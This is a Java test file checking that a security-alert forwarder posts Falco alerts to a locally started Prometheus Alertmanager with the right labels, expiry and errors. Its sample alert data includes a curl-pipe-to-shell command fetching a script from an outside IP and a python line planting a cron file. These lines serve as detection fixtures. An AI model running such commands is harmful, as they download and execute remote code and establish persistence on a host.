package dev.peregrine.sidekick.output.alertmanager;

import static dev.peregrine.sidekick.testing.ConfiguredOutputs.bind;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.peregrine.sidekick.alert.Alert;
import dev.peregrine.sidekick.config.ConfigException;
import dev.peregrine.sidekick.delivery.ConfiguredOutput;
import dev.peregrine.sidekick.output.DeliveryException;
import dev.peregrine.sidekick.output.Output;
import dev.peregrine.sidekick.output.OutputContext;
import dev.peregrine.sidekick.output.PayloadStyle;
import dev.peregrine.sidekick.output.TlsConfig;
import dev.peregrine.sidekick.testing.Loopback;
import dev.peregrine.sidekick.testing.SampleAlerts;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The Alertmanager output against the real Alertmanager (Debian's prometheus-alertmanager),
 * started by the test on a loopback port and read back through its v2 API.
 */
class AlertmanagerOutputTest {
    static final JsonMapper JSON = JsonMapper.builder().build();
    /** Peregrine's payloads: startsAt, the uuid annotation (Falcosidekick's: AlertmanagerPayloadTest). */
    static final OutputContext CONTEXT =
            new OutputContext("am", "peregrine.outputs.am", PayloadStyle.PEREGRINE, Set.of());

    static final List<String> SAMPLES = SampleAlerts.LINES;
    static final Path BINARY = Path.of("/usr/bin/prometheus-alertmanager");
    static final HttpClient HTTP = HttpClient.newHttpClient();

    @TempDir
    static Path dir;

    static Process alertmanager;
    static URI base;

    static Alert sample(int i) {
        return SampleAlerts.alert(i);
    }

    /** The sample as if Falco had just sent it. */
    static Alert fresh(int i, Instant time) {
        Alert a = sample(i);
        return new Alert(
                a.uuid(),
                time,
                a.rule(),
                a.priority(),
                a.source(),
                a.output(),
                a.outputFields(),
                a.tags(),
                a.hostname(),
                a.message(),
                a.origin());
    }

    @BeforeAll
    static void startAlertmanager() throws Exception {
        assertThat(Files.isExecutable(BINARY))
                .as(
                        "%s is not installed: install the Debian package prometheus-alertmanager, e.g. with"
                                + " scripts/setup-host.sh",
                        BINARY)
                .isTrue();
        Path config = dir.resolve("alertmanager.yml");
        Files.writeString(config, """
                route:
                  receiver: nowhere
                receivers:
                  - name: nowhere
                """);
        int port = Loopback.freePort();
        base = URI.create("http://127.0.0.1:" + port);
        Path log = dir.resolve("alertmanager.log");
        alertmanager = new ProcessBuilder(
                        BINARY.toString(),
                        "--config.file=" + config,
                        "--storage.path=" + Files.createDirectories(dir.resolve("data")),
                        "--web.listen-address=127.0.0.1:" + port,
                        "--cluster.listen-address=")
                .redirectErrorStream(true)
                .redirectOutput(log.toFile())
                .start();
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
        while (true) {
            try {
                HttpResponse<String> r = HTTP.send(
                        HttpRequest.newBuilder(base.resolve("/-/ready")).build(), HttpResponse.BodyHandlers.ofString());
                if (r.statusCode() == 200) {
                    return;
                }
            } catch (IOException notYet) {
                // not listening yet
            }
            if (!alertmanager.isAlive() || System.nanoTime() > deadline) {
                throw new AssertionError("alertmanager did not start: " + Files.readString(log));
            }
            Thread.sleep(50);
        }
    }

    @AfterAll
    static void stopAlertmanager() throws Exception {
        if (alertmanager != null && alertmanager.isAlive()) {
            ProcessHandle.of(alertmanager.pid()).ifPresent(ProcessHandle::destroy);
            if (!alertmanager.waitFor(10, TimeUnit.SECONDS)) {
                alertmanager.destroyForcibly().waitFor(5, TimeUnit.SECONDS);
            }
        }
    }

    /** The alerts Alertmanager holds with this rule label, read through its API. */
    static List<JsonNode> alertsOf(String rule) throws Exception {
        String filter = URLEncoder.encode("rule=\"" + rule + "\"", StandardCharsets.UTF_8);
        HttpResponse<String> r = HTTP.send(
                HttpRequest.newBuilder(base.resolve("/api/v2/alerts?filter=" + filter))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).isEqualTo(200);
        List<JsonNode> alerts = new ArrayList<>();
        JSON.readTree(r.body()).forEach(alerts::add);
        return alerts;
    }

    static Map<String, String> map(JsonNode object) {
        Map<String, String> m = new TreeMap<>();
        object.properties().forEach(e -> m.put(e.getKey(), e.getValue().stringValue()));
        return m;
    }

    static AlertmanagerConfig config(
            List<String> fields, Duration expiry, Map<String, String> extraLabels, Map<String, String> severity) {
        return new AlertmanagerConfig(
                base,
                fields,
                expiry,
                extraLabels,
                Map.of(),
                severity,
                Map.of(),
                Duration.ofSeconds(5),
                TlsConfig.NONE,
                null,
                "critical");
    }

    static AlertmanagerConfig defaults() {
        return config(
                List.of("k8s.ns.name", "k8s.pod.name", "container.name"), Duration.ofMinutes(5), Map.of(), Map.of());
    }

    static void send(AlertmanagerConfig config, Alert alert) throws DeliveryException {
        try (Output out = config.create(CONTEXT)) {
            out.send(alert);
        }
    }

    @Test
    void postsAnAlertLabelledAsFalcosidekickDoesAndAlertmanagerHoldsIt() throws Exception {
        Instant time = Instant.now().truncatedTo(ChronoUnit.MILLIS);
        Alert alert = fresh(3, time);
        Instant before = Instant.now();
        send(defaults(), alert);
        Instant after = Instant.now();

        List<JsonNode> alerts = alertsOf("Contact K8S API Server From Container");
        assertThat(alerts).hasSize(1);
        JsonNode a = alerts.getFirst();
        assertThat(map(a.get("labels")))
                .isEqualTo(Map.ofEntries(
                        Map.entry("source", "falco"),
                        Map.entry("rule", "Contact K8S API Server From Container"),
                        Map.entry("alertname", "Contact K8S API Server From Container"),
                        Map.entry("eventsource", "syscall"),
                        Map.entry("hostname", "gke-prod-pool-1-8f3a2c1d-q7lm"),
                        Map.entry("tags", "T1565,container,k8s,maturity_stable,mitre_discovery,network"),
                        Map.entry("priority", "Notice"),
                        Map.entry("severity", "information"),
                        Map.entry("k8s_ns_name", "payments"),
                        Map.entry("k8s_pod_name", "payments-api-5b7f9d9c8-4hzsw"),
                        Map.entry("container_name", "payments-api")));
        assertThat(map(a.get("annotations")))
                .isEqualTo(Map.of(
                        "summary", "Contact K8S API Server From Container",
                        "description", alert.output(),
                        "info", alert.output(),
                        "uuid", alert.uuid()));
        assertThat(Instant.parse(a.get("startsAt").stringValue())).isEqualTo(time);
        // Alertmanager keeps milliseconds.
        assertThat(Instant.parse(a.get("endsAt").stringValue()))
                .isBetween(
                        before.plus(Duration.ofMinutes(5)).truncatedTo(ChronoUnit.MILLIS),
                        after.plus(Duration.ofMinutes(5)));
        assertThat(a.get("status").get("state").stringValue()).isIn("active", "unprocessed");
    }

    /** The default: Falcosidekick's alert, every field a label, and Alertmanager takes it. */
    @Test
    void falcosidekicksAlertByDefaultAndAlertmanagerHoldsIt() throws Exception {
        Alert alert = fresh(2, Instant.now());
        Instant before = Instant.now();
        AlertmanagerConfig unset = new AlertmanagerConfig(
                base,
                null,
                null,
                Map.of(),
                Map.of(),
                Map.of(),
                Map.of(),
                Duration.ofSeconds(5),
                TlsConfig.NONE,
                null,
                "critical");
        try (Output out = unset.create(new OutputContext("am", "peregrine.outputs.am"))) {
            out.send(alert);
        }
        // Other tests send this rule with Peregrine's payloads, which carry a uuid annotation.
        JsonNode a = alertsOf("Write below etc").stream()
                .filter(x -> !x.get("annotations").has("uuid"))
                .findFirst()
                .orElseThrow();
        assertThat(map(a.get("labels")))
                .containsEntry("alertname", "Write below etc")
                .containsEntry("proc_cmdline", "python3 -c open('/etc/cron.d/sysupdate','w').write(payload)")
                .containsEntry("proc_aname_2", "sh")
                .containsEntry("severity", "warning")
                .doesNotContainKey("uuid");
        assertThat(map(a.get("annotations"))).containsOnlyKeys("summary", "description", "info");
        // No startsAt sent: Alertmanager's receive time, as for Falcosidekick's alerts.
        assertThat(Instant.parse(a.get("startsAt").stringValue()))
                .isAfterOrEqualTo(before.truncatedTo(ChronoUnit.MILLIS));
    }

    @Test
    void anAlertDeliveredLateStillFiresForItsFullExpiry() throws Exception {
        Alert alert = sample(6); // Falco's time is from 2025: it waited in the spool
        Instant before = Instant.now();
        send(defaults(), alert);

        JsonNode a = alertsOf("Netcat Remote Code Execution in Container").getFirst();
        assertThat(Instant.parse(a.get("startsAt").stringValue()))
                .isEqualTo(alert.time().truncatedTo(ChronoUnit.MILLIS));
        assertThat(Instant.parse(a.get("endsAt").stringValue()))
                .isAfterOrEqualTo(before.plus(Duration.ofMinutes(5)).truncatedTo(ChronoUnit.MILLIS));
    }

    @Test
    void everyFieldExtraLabelsAndSeverityMapAsInFalcosidekick() throws Exception {
        Alert alert = fresh(2, Instant.now());
        send(
                config(
                        List.of("*"),
                        Duration.ofMinutes(10),
                        Map.of("team", "secops", "source", "peregrine"),
                        Map.of("error", "page")),
                alert);

        JsonNode a = alertsOf("Write below etc").getFirst();
        assertThat(map(a.get("labels")))
                .isEqualTo(Map.ofEntries(
                        Map.entry("source", "peregrine"), // extra-labels win
                        Map.entry("team", "secops"),
                        Map.entry("rule", "Write below etc"),
                        Map.entry("alertname", "Write below etc"),
                        Map.entry("eventsource", "syscall"),
                        Map.entry("hostname", "bastion-01"),
                        Map.entry("tags", "T1098,container,filesystem,host,maturity_sandbox,mitre_persistence"),
                        Map.entry("priority", "Error"),
                        Map.entry("severity", "page"),
                        // Every field with a value; names made label names; empty and null values left out.
                        Map.entry("container_id", "host"),
                        Map.entry("container_name", "host"),
                        Map.entry("evt_time_iso8601", "1763632931734400921"),
                        Map.entry("evt_type", "openat"),
                        Map.entry("fd_name", "/etc/cron.d/sysupdate"),
                        Map.entry("proc_aname_2", "sh"),
                        Map.entry("proc_aname_3", "sshd"),
                        Map.entry("proc_aname_4", "sshd"),
                        Map.entry("proc_cmdline", "python3 -c open('/etc/cron.d/sysupdate','w').write(payload)"),
                        Map.entry("proc_exepath", "/usr/bin/python3.11"),
                        Map.entry("proc_name", "python3"),
                        Map.entry("proc_pcmdline", "sh -c curl -fsSL http://198.51.100.7/i.sh | sh"),
                        Map.entry("proc_pname", "sh"),
                        Map.entry("proc_tty", "34817"),
                        Map.entry("user_loginuid", "1001"),
                        Map.entry("user_name", "root"),
                        Map.entry("user_uid", "0")));
    }

    @Test
    void repeatedAlertsWithTheSameLabelsAreOneAlertmanagerAlert() throws Exception {
        Alert first = fresh(7, Instant.now().minusSeconds(30));
        Alert second = fresh(7, Instant.now());
        try (Output out = defaults().create(CONTEXT)) {
            out.send(first);
            out.send(second);
        }

        List<JsonNode> alerts = alertsOf("Clear Log Activities");
        assertThat(alerts).hasSize(1);
        assertThat(alerts.getFirst().get("annotations").get("uuid").stringValue())
                .isEqualTo(second.uuid());
    }

    @Test
    void alertmanagerDownIsRetryable() throws Exception {
        URI down = URI.create("http://127.0.0.1:" + Loopback.closedPort());
        AlertmanagerConfig config = new AlertmanagerConfig(
                down,
                List.of(),
                Duration.ofMinutes(5),
                Map.of(),
                Map.of(),
                Map.of(),
                Map.of(),
                Duration.ofSeconds(2),
                TlsConfig.NONE,
                null,
                "critical");

        assertThatThrownBy(() -> send(config, sample(0))).isInstanceOfSatisfying(DeliveryException.class, e -> {
            assertThat(e.retryable()).isTrue();
            assertThat(e.getMessage())
                    .startsWith("POST " + down + "/api/v2/alerts: HttpHostConnectException")
                    .contains("Connection refused");
        });
    }

    @Test
    void payloadIsAOneAlertListWithoutEndsAtWhenExpiryIsZero() {
        AlertmanagerOutput out = (AlertmanagerOutput)
                config(List.of(), Duration.ZERO, Map.of(), Map.of()).create(CONTEXT);
        Alert alert = sample(11);

        JsonNode payload = out.payload(alert, Instant.now());
        assertThat(payload.size()).isEqualTo(1);
        assertThat(payload.get(0).has("endsAt")).isFalse();
        // Falco's own time text, nanoseconds included.
        assertThat(payload.get(0).get("startsAt").stringValue())
                .isEqualTo(JSON.readTree(SAMPLES.get(11)).get("time").stringValue());
        out.close();
    }

    @ParameterizedTest
    @CsvSource({
        "http://am:9093,                     http://am:9093/api/v2/alerts",
        "http://am:9093/,                    http://am:9093/api/v2/alerts",
        "https://proxy/alertmanager,         https://proxy/alertmanager/api/v2/alerts",
        "http://am:9093/api/v2/alerts,       http://am:9093/api/v2/alerts"
    })
    void theV2EndpointIsAddedToTheBaseUrl(String url, String endpoint) {
        assertThat(new AlertmanagerConfig(
                                URI.create(url),
                                List.of(),
                                Duration.ZERO,
                                Map.of(),
                                Map.of(),
                                Map.of(),
                                Map.of(),
                                Duration.ofSeconds(1),
                                TlsConfig.NONE,
                                null,
                                "critical")
                        .endpoint())
                .isEqualTo(URI.create(endpoint));
    }

    // --- configuration errors, through the binder as at startup.

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            value = {
                // Shown redacted as every URL in a message: what follows a scheme without '//' may be a password.
                "url ; am:9093 ; peregrine.outputs.am.url: must be an http or https URL, got 'am:***'",
                "url ; http://am:9093/api/v1/alerts ; peregrine.outputs.am.url: Alertmanager's v1 API is gone",
                "extra-labels.team-name ; secops ; peregrine.outputs.am.extra-labels.team-name: not a label name",
                "severity.loud ; page ; peregrine.outputs.am.severity.loud: unknown priority 'loud'",
                "output-fields[1] ; ... ; peregrine.outputs.am.output-fields[1]: not an output field name: '...'",
                "expires-after ; -5 ; peregrine.outputs.am.expires-after: must not be negative",
                "headers.Host ; am ; peregrine.outputs.am.headers.Host: this header is set by the HTTP client"
            })
    void unusableSettingsStopStartupNamingTheKey(String key, String value, String expected) {
        Map<String, Object> props = new LinkedHashMap<>(Map.of(
                "peregrine.outputs.am.type", "alertmanager",
                "peregrine.outputs.am.url", "http://am:9093",
                "peregrine.outputs.am.output-fields[0]", "k8s.ns.name"));
        props.put("peregrine.outputs.am." + key, value);
        ConfiguredOutput configured = bind(props).getFirst();

        assertThatThrownBy(() -> configured.config().create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems()).singleElement().asString().startsWith(expected));
    }

    @Test
    void bindsFromKebabKeysWithDefaultsAndFalcosidekickSeconds() {
        List<ConfiguredOutput> outputs = bind(Map.of(
                "peregrine.outputs.am.type", "alertmanager",
                "peregrine.outputs.am.url", "http://am:9093",
                "peregrine.outputs.am.expires-after", "600",
                "peregrine.outputs.am.extra-labels.team", "secops"));

        assertThat(outputs)
                .singleElement()
                .extracting(ConfiguredOutput::config)
                .isEqualTo(new AlertmanagerConfig(
                        URI.create("http://am:9093"),
                        null, // the payload style's: every field (Falcosidekick's) or three (Peregrine's)
                        Duration.ofMinutes(10),
                        Map.of("team", "secops"),
                        Map.of(),
                        Map.of(),
                        Map.of(),
                        Duration.ofSeconds(10),
                        new TlsConfig(null, null, null),
                        null,
                        "critical"));
    }

    /** Built once: the classpath scan and the validator take a while. */
}
